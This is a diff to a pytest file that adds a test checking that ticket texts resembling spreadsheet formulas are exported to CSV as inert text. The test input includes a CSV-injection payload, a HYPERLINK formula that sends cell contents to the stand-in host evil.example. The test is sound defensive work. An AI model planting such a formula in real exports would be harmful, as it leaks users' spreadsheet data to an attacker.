@@ -4,6 +4,7 @@ from pathlib import Path
 
 import pytest
 
+from server.agents.data.dataset import TicketDataset
 from server.agents.data.generator import GENERATED_LABELS, generate_tickets
 from server.agents.data.ingest import dump_tickets, load_tickets, parse_tickets
 from server.agents.data.validation import DataIssue, validate_dataset
@@ -39,6 +40,15 @@ def test_generated_data_round_trips_through_both_formats(data_format: str) -> No
     assert result.dataset.texts == data.texts
     assert result.dataset.labels == data.labels
     assert result.dataset.segments == data.segments
+
+
+def test_a_text_that_looks_like_a_formula_is_written_inert() -> None:
+    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "-1 star, refund me"]
+    data = TicketDataset.from_columns(texts, LABELS)
+    lines = dump_tickets(data, "csv").splitlines()
+    assert lines[0] == '"text","label","segment","channel","tier"'
+    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/?""&A1)","billing",')
+    assert lines[2].startswith('"\'-1 star, refund me","refund",')
 
 
 def test_csv_row_problems_are_reported_with_their_line_numbers() -> None:
